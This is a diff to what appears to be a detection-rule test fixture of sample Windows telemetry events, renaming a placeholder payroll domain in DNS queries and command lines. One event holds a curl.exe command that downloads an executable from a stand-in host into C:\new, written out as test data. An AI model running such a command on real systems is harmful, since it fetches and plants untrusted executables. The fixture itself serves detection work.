@@ -17,10 +17,10 @@ FILETIME = (1_795_010_533 + 11_644_473_600) * 10_000_000
 
 EVENTS = [
     {"Image": r"C:\Windows\System32\svchost.exe", "QueryName": "www.cedar-landing.example"},
-    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "login.payroll-harborview.example"},
-    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "notpayroll-harborview.example"},
-    {"CommandLine": r"curl.exe -o C:\new\a.exe http://Payroll-Harborview.example/a", "DestinationIp": "203.0.113.77"},
-    {"CommandLine": "ping payroll-harborview.example.com", "DestinationIp": "203.0.113.7"},
+    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "login.payroll-quickpay.example"},
+    {"Image": r"C:\Program Files\Browser\browser.exe", "QueryName": "notpayroll-quickpay.example"},
+    {"CommandLine": r"curl.exe -o C:\new\a.exe http://Payroll-Quickpay.example/a", "DestinationIp": "203.0.113.77"},
+    {"CommandLine": "ping payroll-quickpay.example.com", "DestinationIp": "203.0.113.7"},
     {"Hashes": "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E"},
 ]
 
